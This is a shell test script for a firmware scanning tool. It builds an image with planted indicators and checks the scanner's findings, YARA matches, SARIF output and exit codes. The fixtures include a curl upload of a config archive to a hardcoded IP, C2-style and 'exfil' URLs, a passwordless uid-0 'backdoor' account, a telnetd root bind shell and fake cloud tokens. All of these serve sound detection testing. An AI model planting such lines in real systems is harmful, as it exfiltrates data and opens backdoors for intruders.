#!/usr/bin/env bash
# tests/e2e/test_scan.sh: `vouch scan` against planted findings, independent tools and real
# Debian content. Usage: test_scan.sh VOUCH
#
# 1. Planted findings. A root file system is built here with known indicators (a script
#    uploading to a hardcoded public IP over http, credentials and tokens in a config file,
#    an SNMP default community, a public and a private IP, a URL and a host name appended to
#    a copy of a real Debian binary, a URL in the image's unrecognised tail), packed with
#    mksquashfs behind 64 KiB of padding. Every planted finding must be reported with its
#    id, the right nested path, the offset at which python finds the needle in the source
#    file, and its evidence; secrets must be masked (and shown with --reveal).
# 2. Address scopes: 300 random addresses and the edges of every special-purpose block,
#    each classified public or not, compared with Python's ipaddress (is_global, and not
#    multicast/reserved), an implementation independent of ours.
# 3. Jurisdiction: a MaxMind DB built with Debian's libmaxmind-db-writer-perl; countries
#    compared with mmdblookup (libmaxminddb's own tool) on the same database.
# 4. YARA: the files vouch reports for a rule set compared with the `yara` command's -r run
#    over the same tree; a file larger than --max-buffer is reported as not given to YARA.
# 5. SARIF validated against the official 2.1.0 schema (tests/schema/validate.mjs, ajv);
#    skipped cleanly without ../shared or node.
# 6. False positives on clean real content: the sbom fixture (26 real Debian packages):
#    no high or critical finding; the counts per id are printed.
# 7. Hostile input: thousands of matches, noise, a long line: bounded time, a limit finding.
# 8. Exit statuses.
set -uo pipefail
vouch=${1:?usage: $0 VOUCH}
vouch=$(cd "$(dirname "$vouch")" && pwd)/$(basename "$vouch")
here=$(cd "$(dirname "$0")/.." && pwd)
shared=${VOUCH_SHARED:-$here/../../shared}
. "$(dirname "$0")/common.sh"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
command -v mksquashfs >/dev/null || {
	echo "skip: mksquashfs not installed"
	echo "$pass passed, $fail failed"
	exit 0
}

# ---- 1. planted findings ----
r=$work/root
mkdir -p "$r/usr/bin" "$r/usr/sbin" "$r/etc/snmp" "$r/etc/config" "$r/etc/app"
cat >"$r/usr/bin/backup.sh" <<'EOF'
#!/bin/sh
# nightly config backup
tar czf /tmp/cfg.tgz /etc/config
curl -s -F "f=@/tmp/cfg.tgz" http://203.0.114.23/upload.php
wget -q -O- ftp://admin:Fr0gSt4r92@10.20.30.40/pub/ >/dev/null
EOF
cat >"$r/etc/app/app.conf" <<'EOF'
[database]
user = dbadmin
password = "x9!Qm2#vLp7Z"
placeholder_password = changeme
from_env = ${DB_PASSWORD}
[cloud]
aws_access_key_id = AKIAZ7QW3ERT5YUI2OPA
github = ghp_R8kd2LmQ0xZp4Tn7Vb1Wc9Ys3Hf6Ju5Ke2Aq
EOF
cat >"$r/etc/snmp/snmpd.conf" <<'EOF'
# snmpd.conf
sysLocation closet
rocommunity public default
com2sec rwuser 10.0.0.0/8 Zq8mN3vB
EOF
cat >"$r/etc/config/network" <<'EOF'
config interface 'lan'
	option ipaddr '192.168.77.1'
	option dns '9.9.9.9'
EOF
for f in version.txt readme; do echo "build 1.2.3.4 of 2.6.32.5-rc1; OID 1.3.6.1.4.1.2021" >"$r/etc/$f"; done
# accounts, boot services and a private key (analysers accounts.c, services.c, keys.c)
mkdir -p "$r/etc/init.d" "$r/etc/ssl/private"
printf 'root:x:0:0:root:/root:/bin/sh\nbackdoor::0:0:support:/root:/bin/sh\nnobody:*:65534:65534:nobody:/:/bin/false\n' >"$r/etc/passwd"
printf 'root:%s:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n' "$(openssl passwd -1 -salt Wq3xZ9ab admin)" >"$r/etc/shadow"
printf '#!/bin/sh\nmount -a\n/usr/sbin/telnetd -l /bin/sh -p 2323 &\n' >"$r/etc/init.d/rcS"
openssl genpkey -algorithm ed25519 -out "$r/etc/ssl/private/device.key" 2>/dev/null || bad "openssl genpkey"
cp /usr/bin/ls "$r/usr/sbin/telemetryd"
lsize=$(stat -c %s /usr/bin/ls)
printf '\0\0http://45.77.12.9:8080/cmd\0update.evil-c2.com\0' >>"$r/usr/sbin/telemetryd"
mksquashfs "$r" "$work/root.sqfs" -comp xz -noappend -all-root -quiet >/dev/null 2>&1 ||
	bad "mksquashfs failed"
img=$work/fw.bin
head -c 65536 /dev/zero | tr '\0' '\377' >"$img"
cat "$work/root.sqfs" >>"$img"
tail_off=$(stat -c %s "$img")
printf '\n\nhttp://91.198.174.192/exfil\n' >>"$img"

"$vouch" scan --json -q "$img" >"$work/scan.json" 2>"$work/scan.err"
rc=$?
[ "$rc" -eq 8 ] && ok "scan of the planted image exits 8 (high findings)" ||
	bad "scan of the planted image exits $rc: $(head -3 "$work/scan.err")"
"$vouch" scan --json -q --reveal "$img" >"$work/reveal.json" 2>/dev/null

cat >"$work/truth.tsv" <<EOF
endpoint.cleartext-url	usr/bin/backup.sh	http://203.0.114.23	203.0.114.23
endpoint.cleartext-url	usr/bin/backup.sh	ftp://admin:	10.20.30.40
secret.url-credentials	usr/bin/backup.sh	://admin	admin:
secret.password	etc/app/app.conf	password = 	password = "
secret.aws-access-key-id	etc/app/app.conf	AKIAZ7QW3ERT5YUI2OPA	aws_access_key_id = AK
secret.github-token	etc/app/app.conf	ghp_R8kd2LmQ0xZp4Tn7Vb1Wc9Ys3Hf6Ju5Ke2Aq	github = gh
endpoint.snmp-default-community	etc/snmp/snmpd.conf	rocommunity public	rocommunity public default
endpoint.snmp-community	etc/snmp/snmpd.conf	com2sec rwuser	com2sec rwuser 10.0.0.0/8 Zq
endpoint.ip-private	etc/config/network	192.168.77.1	192.168.77.1
endpoint.ip-public	etc/config/network	9.9.9.9	9.9.9.9
endpoint.cleartext-url	usr/sbin/telemetryd	http://45.77.12.9:8080/cmd	http://45.77.12.9:8080/cmd
endpoint.host	usr/sbin/telemetryd	update.evil-c2.com	update.evil-c2.com
account.default-password	etc/shadow	root:	root:
account.uid0-nonroot	etc/passwd	backdoor::0	backdoor::0:0
account.empty-password	etc/passwd	backdoor::0	backdoor::
service.telnet	etc/init.d/rcS	/usr/sbin/telnetd -l /bin/sh	telnetd -l /bin/sh
service.bind-shell	etc/init.d/rcS	/usr/sbin/telnetd -l /bin/sh	telnetd -l /bin/sh
key.private-key	etc/ssl/private/device.key	-----BEGIN PRIVATE KEY-----	BEGIN PRIVATE KEY
EOF
python3 - "$work/scan.json" "$work/reveal.json" "$work/truth.tsv" "$r" "$img" "$tail_off" "$lsize" \
	>"$work/py1.out" 2>&1 <<'EOF'
import json, sys
doc = json.load(open(sys.argv[1])); rev = json.load(open(sys.argv[2]))
truth = [l.rstrip('\n').split('\t') for l in open(sys.argv[3]) if l.strip()]
root, img, tail_off, lsize = sys.argv[4], sys.argv[5], int(sys.argv[6]), int(sys.argv[7])
fs = doc['findings']
found = 0
for fid, rel, needle, ev in truth:
    data = open(f"{root}/{rel}", 'rb').read()
    off = data.find(needle.encode())
    hits = [f for f in fs if f['id'] == fid and f['path'].endswith('/' + rel)]
    good = [f for f in hits if f['offset'] == off and '/squashfs@0x10000/' in f['path']
            and ev in (f['evidence'] or '')]
    if good:
        found += 1
        print(f"ok: {fid} in {rel} at {off} with evidence {ev!r}")
    else:
        print(f"FAIL: {fid} in {rel} at {off} ({ev!r}) not reported; got "
              f"{[(f['offset'], f['evidence']) for f in hits]}")
print(f"planted findings found: {found}/{len(truth)} ({100.0 * found / len(truth):.0f}%)")
# the binary: the URL is past the end of the original ls
u = [f for f in fs if f['path'].endswith('/usr/sbin/telemetryd') and f['id'] == 'endpoint.cleartext-url']
print("ok: URL in the binary is after the original program bytes" if u and u[0]['offset'] == lsize + 2
      else f"FAIL: URL in the binary at {[f['offset'] for f in u]}, wanted {lsize + 2}")
# the image's own tail (not inside the opened squashfs) is reported on the image
t = [f for f in fs if f['path'] == 'fw.bin' and f['id'] == 'endpoint.cleartext-url']
print("ok: URL in the unrecognised tail of the image reported on fw.bin at its offset"
      if t and t[0]['offset'] == tail_off + 2 else f"FAIL: tail URL: {[(f['path'], f['offset']) for f in t]}")
print("ok: nothing reported twice (no finding inside the opened squashfs region of fw.bin)"
      if all(not (f['path'] == 'fw.bin' and f['offset'] is not None and 65536 <= f['offset'] < tail_off) for f in fs)
      else "FAIL: findings inside the squashfs region of fw.bin")
# secrets masked, and revealed on request
secrets = ['x9!Qm2#vLp7Z', 'Fr0gSt4r92', 'AKIAZ7QW3ERT5YUI2OPA', 'ghp_R8kd2LmQ0xZp4Tn7Vb1Wc9Ys3Hf6Ju5Ke2Aq', 'Zq8mN3vB']
text = json.dumps(fs)
leak = [s for s in secrets if s in text]
print("ok: no secret appears unmasked in the findings" if not leak else f"FAIL: unmasked secrets: {leak}")
rtext = json.dumps(rev['findings'])
print("ok: --reveal shows the secrets" if all(s in rtext for s in secrets) else
      f"FAIL: --reveal hides {[s for s in secrets if s not in rtext]}")
# the default password: named masked, shown with --reveal
d = [f for f in fs if f['id'] == 'account.default-password']
rd = [f for f in rev['findings'] if f['id'] == 'account.default-password']
print("ok: the cracked default password is masked" if d and 'admin' not in json.dumps(d) else f"FAIL: default password shown: {d}")
print("ok: --reveal names the cracked password" if rd and 'admin' in json.dumps(rd) else f"FAIL: --reveal: {rd}")
# placeholders and versions are not findings
bad = [f for f in fs if 'changeme' in (f['evidence'] or '') or 'DB_PASSWORD' in (f['evidence'] or '')]
print("ok: placeholders (changeme, ${VAR}) are not secrets" if not bad else f"FAIL: placeholder reported: {bad}")
v = [f for f in fs if f['path'].endswith(('/etc/version.txt', '/etc/readme'))]
print("ok: version strings and OIDs are not endpoints" if not v else f"FAIL: {[(f['id'], f['evidence']) for f in v]}")
# the inventory is in the report
inv = doc['inventory']
print("ok: inventory lists every file" if inv['files'] == len(inv['file_list']) and
      any(x['path'].endswith('/usr/sbin/telemetryd') for x in inv['file_list']) else "FAIL: inventory")
EOF
tally "$work/py1.out"

# the same private key in a second image: every unit shares it
r2=$work/root2
mkdir -p "$r2/etc/ssl"
cp "$r/etc/ssl/private/device.key" "$r2/etc/ssl/server.pem"
mksquashfs "$r2" "$work/other.sqfs" -noappend -all-root -quiet >/dev/null 2>&1 || bad "mksquashfs other"
"$vouch" scan --json -q --fail-on never --key-registry "$work/reg" "$img" >/dev/null 2>&1
"$vouch" scan --json -q --fail-on never --key-registry "$work/reg" "$work/other.sqfs" >"$work/other.json" 2>/dev/null
"$vouch" scan --json -q --fail-on never --key-registry "$work/reg" "$img" >"$work/again.json" 2>/dev/null
python3 - "$work/other.json" "$work/again.json" >"$work/pyk.out" 2>&1 <<'EOF'
import json, sys
o, a = (json.load(open(p))['findings'] for p in sys.argv[1:3])
sh = [f for f in o if f['id'] == 'key.shared-private-key' and f['path'].endswith('/etc/ssl/server.pem')]
print("ok: a private key seen in another image is flagged shared" if sh else "FAIL: shared key not flagged")
ag = [f for f in a if f['id'] == 'key.shared-private-key' and f['path'].endswith('/device.key')]
print("ok: the first image scanned again is flagged too (the second image holds its key)" if ag
      else "FAIL: rescan of the first image not flagged")
EOF
tally "$work/pyk.out"

# ---- 2. address scopes against Python's ipaddress ----
python3 - "$work/scope" >"$work/ips.txt" <<'EOF'
import ipaddress, random
random.seed(6890)
ips = []
edges = ['0.0.0.1', '9.255.255.255', '10.0.0.1', '10.255.255.254', '11.0.0.1', '100.63.255.255',
         '100.64.0.1', '100.127.255.254', '100.128.0.1', '126.255.255.255', '127.0.0.1',
         '128.0.0.1', '169.253.255.255', '169.254.1.1', '169.255.0.1', '172.15.255.255',
         '172.16.0.1', '172.31.255.254', '172.32.0.1', '192.0.2.1', '192.0.3.1',
         '192.167.255.255', '192.168.0.1', '192.169.0.1', '198.17.255.255', '198.18.0.1',
         '198.19.255.254', '198.20.0.1', '198.51.100.9', '203.0.113.9', '203.0.112.9',
         '223.255.255.254', '224.0.0.1', '239.255.255.250', '240.0.0.1', '255.255.255.255',
         '2001:db8::1', 'fe80::1:2:3', 'fc00::1:2:3', 'fd12:3456::789a', 'ff02::1:2',
         '2a00:1450:4001::200e', '2606:4700:4700::1111', '3fff:1::1:2', '4000::1:2:3']
for _ in range(300):
    a = ipaddress.IPv4Address(random.getrandbits(32))
    if a in ipaddress.ip_network('192.0.0.0/24') or a in ipaddress.ip_network('192.88.99.0/24'):
        continue  # RFC 6890 blocks Python calls global (see below)
    ips.append(str(a))
for _ in range(40):
    ips.append(str(ipaddress.IPv6Address((0x2000 + random.getrandbits(13)) << 112 | random.getrandbits(64))))
for ip in edges + ips:
    print(f"server={ip}")
EOF
mkdir -p "$work/scoperoot/etc"
cp "$work/ips.txt" "$work/scoperoot/etc/servers.conf"
tar cf "$work/scope.tar" -C "$work/scoperoot" .
"$vouch" scan --json -q --fail-on never "$work/scope.tar" >"$work/scope.json" 2>/dev/null ||
	bad "scan of the address list exits $?"
python3 - "$work/ips.txt" "$work/scope.json" >"$work/py2.out" 2>&1 <<'EOF'
import ipaddress, json, sys
want = {}
for line in open(sys.argv[1]):
    ip = ipaddress.ip_address(line.strip().split('=', 1)[1])
    # Python's is_global does not exclude multicast or the reserved blocks; RFC 6890 does
    want[str(ip)] = ip.is_global and not ip.is_multicast and not ip.is_reserved
got = {}
for f in json.load(open(sys.argv[2]))['findings']:
    d = dict(kv.split('=', 1) for kv in f['detail'].split('; ')) if f['detail'] else {}
    if f['id'].startswith('endpoint.ip-'):
        got[str(ipaddress.ip_address(d['value']))] = d['scope'] == 'public'
missing = sorted(set(want) - set(got))
wrong = sorted(ip for ip in want if ip in got and got[ip] != want[ip])
print(f"ok: all {len(want)} addresses found" if not missing else f"FAIL: not found: {missing[:10]}")
print(f"ok: public/non-public agrees with Python ipaddress for all {len(want)}" if not wrong
      else f"FAIL: scope differs for {[(ip, got[ip], want[ip]) for ip in wrong[:10]]}")
EOF
tally "$work/py2.out"

# ---- 3. jurisdiction from a MaxMind DB ----
if perl -MMaxMind::DB::Writer::Tree -e1 2>/dev/null && command -v mmdblookup >/dev/null; then
	perl - "$work/geo.mmdb" <<'EOF'
use strict; use warnings;
use MaxMind::DB::Writer::Tree;
my %types = (country => 'map', iso_code => 'utf8_string');
my $t = MaxMind::DB::Writer::Tree->new(
	ip_version => 6, record_size => 24, database_type => 'GeoLite2-Country',
	languages => ['en'], description => { en => 'vouch test countries' },
	map_key_type_callback => sub { $types{ $_[0] } });
$t->insert_network('::9.9.9.0/120', { country => { iso_code => 'CH' } });
$t->insert_network('::203.0.114.0/120', { country => { iso_code => 'NL' } });
$t->insert_network('::45.77.0.0/112', { country => { iso_code => 'US' } });
open my $fh, '>:raw', $ARGV[0] or die; $t->write_tree($fh); close $fh;
EOF
	"$vouch" scan --json -q --fail-on never --geoip "$work/geo.mmdb" "$img" >"$work/geo.json" 2>"$work/geo.err" ||
		bad "scan --geoip exits $?: $(head -2 "$work/geo.err")"
	for ip in 9.9.9.9 203.0.114.23 45.77.12.9; do
		want=$(mmdblookup --file "$work/geo.mmdb" --ip "$ip" country iso_code 2>/dev/null |
			sed -n 's/.*"\(.*\)".*/\1/p')
		got=$(python3 -c "
import json,sys
for f in json.load(open('$work/geo.json'))['findings']:
    if '$ip' in (f['detail'] or '') and 'country=' in f['detail']:
        print(f['detail'].split('country=')[1].split(';')[0]); break")
		if [ -n "$want" ] && [ "$got" = "$want" ]; then
			ok "country of $ip is $got, as mmdblookup says"
		else
			bad "country of $ip: vouch '$got', mmdblookup '$want'"
		fi
	done
	expect "a file that is not a MaxMind DB is refused (exit 3)" 3 "$vouch" scan -q --geoip /etc/hostname "$img"
else
	echo "skip: MaxMind DB checks (libmaxmind-db-writer-perl and mmdb-bin needed)"
fi

# ---- 4. YARA against the yara command ----
if command -v yara >/dev/null; then
	cat >"$work/rules.yar" <<'EOF'
rule planted_beacon { meta: severity = "high" strings: $u = "http://45.77.12.9:8080/cmd" condition: $u }
rule shell_upload { strings: $a = "curl -s -F" $b = "upload.php" condition: $a and $b }
rule elf_magic { condition: uint32(0) == 0x464c457f }
EOF
	"$vouch" scan --json -q --fail-on never --yara "$work/rules.yar" "$img" >"$work/yara.json" 2>"$work/yara.err" ||
		bad "scan --yara exits $?: $(grep -m3 -E "ERROR|runtime error|SUMMARY" "$work/yara.err")"
	yara -r "$work/rules.yar" "$r" >"$work/yara.out" 2>/dev/null || bad "yara -r failed"
	python3 - "$work/yara.json" "$work/yara.out" "$r" >"$work/py4.out" 2>&1 <<'EOF'
import json, sys
root = sys.argv[3].rstrip('/') + '/'
want = set()
for line in open(sys.argv[2]):
    rule, path = line.split(' ', 1)
    want.add((rule, path.strip()[len(root):]))
got = set()
for f in json.load(open(sys.argv[1]))['findings']:
    if f['category'] == 'yara' and '/squashfs@0x10000/' in f['path']:
        got.add((f['id'][5:], f['path'].split('/squashfs@0x10000/', 1)[1]))
print(f"ok: YARA matches agree with yara -r ({len(want)} rule/file pairs)" if got == want and want
      else f"FAIL: vouch-only {sorted(got - want)}, yara-only {sorted(want - got)}")
sev = [f['severity'] for f in json.load(open(sys.argv[1]))['findings'] if f['id'] == 'yara.planted_beacon']
print("ok: rule meta severity = high is used" if sev and all(s == 'high' for s in sev) else f"FAIL: severity {sev}")
EOF
	tally "$work/py4.out"
	"$vouch" scan --json -q --fail-on never --max-buffer 64K --yara "$work/rules.yar" "$img" >"$work/yara2.json" 2>/dev/null
	python3 -c "
import json
fs=json.load(open('$work/yara2.json'))['findings']
big=[f['path'] for f in fs if f['id']=='limit.yara-too-big']
print('ok: files above --max-buffer are named as not given to YARA' if any(p.endswith('/usr/sbin/telemetryd') for p in big) else 'FAIL: too-big files: %s' % big)" >"$work/py5.out"
	tally "$work/py5.out"
	printf 'rule broken { condition: $nope }\n' >"$work/bad.yar"
	expect "YARA rules that do not compile are refused (exit 3)" 3 "$vouch" scan -q --yara "$work/bad.yar" "$img"
	"$vouch" scan -q --yara "$work/bad.yar" "$img" 2>"$work/bad.err" >/dev/null
	grep -q "bad.yar:1" "$work/bad.err" && ok "the YARA error names the file and line" ||
		bad "YARA error message: $(cat "$work/bad.err")"
else
	echo "skip: YARA comparison (yara not installed)"
fi

# ---- 5. SARIF against the official schema ----
"$vouch" scan -q --fail-on never --sarif "$work/out.sarif" "$img" >/dev/null 2>&1 || bad "scan --sarif exits $?"
python3 - "$work/out.sarif" "$work/scan.json" >"$work/py6.out" 2>&1 <<'EOF'
import json, sys, urllib.parse
s = json.load(open(sys.argv[1])); d = json.load(open(sys.argv[2]))
run = s['runs'][0]
rules = [r['id'] for r in run['tool']['driver']['rules']]
print("ok: one SARIF rule per finding id" if sorted(rules) == sorted({f['id'] for f in d['findings']})
      and len(rules) == len(set(rules)) else f"FAIL: rules {rules}")
ok = len(run['results']) == len(d['findings'])
for res, f in zip(run['results'], d['findings']):
    loc = res['locations'][0]['physicalLocation']
    ok &= urllib.parse.unquote(loc['artifactLocation']['uri']) == f['path']
    ok &= loc.get('region', {}).get('byteOffset') == f['offset']
    ok &= rules[res['ruleIndex']] == res['ruleId'] == f['id']
print("ok: every SARIF result has the nested path as its URI and the byte offset" if ok
      else "FAIL: SARIF results differ from the JSON findings")
EOF
tally "$work/py6.out"
if [ -d "$shared/vectors/schemas/sarif" ] && command -v node >/dev/null &&
	[ -d "$here/schema/node_modules/ajv" ]; then
	if VOUCH_SHARED=$shared node "$here/schema/validate.mjs" sarif "$work/out.sarif" >"$work/val.out" 2>&1; then
		ok "SARIF is valid against sarif-schema-2.1.0.json"
	else
		bad "SARIF invalid: $(head -5 "$work/val.out")"
	fi
else
	echo "skip: SARIF schema validation (needs ../shared/vectors/schemas, node and tests/schema/node_modules)"
fi

# ---- 6. false positives on clean real Debian content ----
fx=${VOUCH_SBOM_FIXTURES:-$here/fixtures/out/sbom}
[ -s "$fx/sbom.bin" ] || bash "$here/fixtures/make-sbom-fixture.sh" "$fx" >/dev/null 2>&1
if [ -s "$fx/sbom.bin" ]; then
	"$vouch" scan --json -q --fail-on never "$fx/sbom.bin" >"$work/deb.json" 2>/dev/null ||
		bad "scan of the Debian fixture exits $?"
	python3 - "$work/deb.json" >"$work/py7.out" 2>&1 <<'EOF'
import collections, json, sys
d = json.load(open(sys.argv[1]))
c = collections.Counter((f['severity'], f['id']) for f in d['findings'])
print(f"clean Debian content: {d['inventory']['files']} files, {len(d['findings'])} findings")
for (sev, fid), n in sorted(c.items(), key=lambda x: (-['info','low','medium','high','critical'].index(x[0][0]), x[0][1])):
    print(f"  {n:5d} {sev:8s} {fid}")
high = [f for f in d['findings'] if f['severity'] in ('high', 'critical')]
print("ok: no high or critical finding on clean Debian packages" if not high else
      "FAIL: high findings on clean content: " + "; ".join(f"{f['id']} {f['path']} {f['evidence']}" for f in high[:10]))
EOF
	tally "$work/py7.out"
else
	echo "skip: false-positive measurement (tests/fixtures/out/sbom/sbom.bin could not be built)"
fi

# ---- 7. hostile input ----
h=$work/hostile
mkdir -p "$h/etc"
python3 - "$h" <<'EOF'
import os, sys
d = sys.argv[1]
open(f"{d}/etc/many-ips.conf", "w").write("".join(f"peer=8.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}\n" for i in range(30000)))
open(f"{d}/etc/dots", "w").write("1." * 500000)
open(f"{d}/etc/pw", "w").write("password=" * 200000)
open(f"{d}/etc/longline", "w").write("http://" + "a" * 3000000 + ".com/\n")
open(f"{d}/noise.bin", "wb").write(os.urandom(32 << 20))
EOF
tar cf "$work/hostile.tar" -C "$h" .
start=$(date +%s.%N)
/usr/bin/time -f "%M" -o "$work/rss" "$vouch" scan --json -q --fail-on never "$work/hostile.tar" >"$work/hostile.json" 2>/dev/null
rc=$?
secs=$(echo "$(date +%s.%N) - $start" | bc)
rss=$(cat "$work/rss" 2>/dev/null | tail -1)
[ "$rc" -eq 0 ] && ok "hostile content scanned (exit 0) in ${secs}s, peak RSS ${rss} KiB" ||
	bad "hostile content: exit $rc"
python3 - "$work/hostile.json" "$secs" "${rss:-0}" >"$work/py8.out" 2>&1 <<'EOF'
import json, sys
d = json.load(open(sys.argv[1])); secs = float(sys.argv[2]); rss = int(sys.argv[3])
lim = [f['path'] for f in d['findings'] if f['id'] == 'limit.matches']
print("ok: thousands of matches give a limit.matches finding" if any(p.endswith('many-ips.conf') for p in lim)
      else f"FAIL: no limit finding for many-ips.conf ({lim})")
print(f"ok: bounded time ({secs:.1f} s < 60 s)" if secs < 60 else f"FAIL: took {secs:.1f} s")
print(f"ok: bounded memory ({rss // 1024} MiB < 1024 MiB)" if rss < 1 << 20 else f"FAIL: {rss} KiB")
print(f"ok: {len(d['findings'])} findings at most" if len(d['findings']) <= 100001 else "FAIL: too many findings")
EOF
tally "$work/py8.out"

# ---- 8. exit statuses ----
expect "no IMAGE is a usage error (2)" 2 "$vouch" scan
expect "unknown option is a usage error (2)" 2 "$vouch" scan --bogus "$img"
expect "--fail-on with a bad level is a usage error (2)" 2 "$vouch" scan --fail-on severe "$img"
expect "a missing image exits 3" 3 "$vouch" scan -q "$work/nope.bin"
expect "--fail-on never exits 0 on the planted image" 0 "$vouch" scan -q --fail-on never "$img"
expect "--fail-on critical exits 8 (AWS key is critical)" 8 "$vouch" scan -q --fail-on critical "$img"
expect "an unwritable --sarif exits 3" 3 "$vouch" scan -q --fail-on never --sarif /nonexistent/dir/x.sarif "$img"

# ---- 7. one report: components and their known vulnerabilities, as `vouch vulns` gives them ----
vulndb=${VOUCH_SHARED:-$here/../../shared}/vulndb
if [ -d "$vulndb" ] && [ -s "$fx/sbom.bin" ]; then
	"$vouch" vulndb import --db "$work/v.sqlite" "$vulndb" >/dev/null 2>&1 || bad "vulndb import"
	"$vouch" scan --json -q --fail-on never --db "$work/v.sqlite" "$fx/sbom.bin" >"$work/sv.json" 2>/dev/null
	"$vouch" vulns --json -q --db "$work/v.sqlite" "$fx/sbom.bin" >"$work/vv.json" 2>/dev/null
	python3 - "$work/sv.json" "$work/vv.json" >"$work/py8.out" 2>&1 <<'EOF'
import json, sys
s, v = (json.load(open(p)) for p in sys.argv[1:3])
a = {(x["component"], x["id"]) for x in s["vulnerabilities"]}
b = {(x["component"], x["id"]) for x in v["vulnerabilities"] + v["suppressed"]}
print((f"ok: scan reports the same {len(a)} vulnerabilities as vouch vulns" if a == b and a
       else f"FAIL: scan vs vulns: {sorted(a ^ b)[:5]}"))
print(("ok: " if len(s["components"]) == len(v["components"]) > 20 else "FAIL: ")
      + f"scan and vulns see {len(s['components'])} / {len(v['components'])} components")
EOF
	tally "$work/py8.out"
else
	echo "skip: components' vulnerabilities in the scan report (needs ../shared/vulndb)"
fi

echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
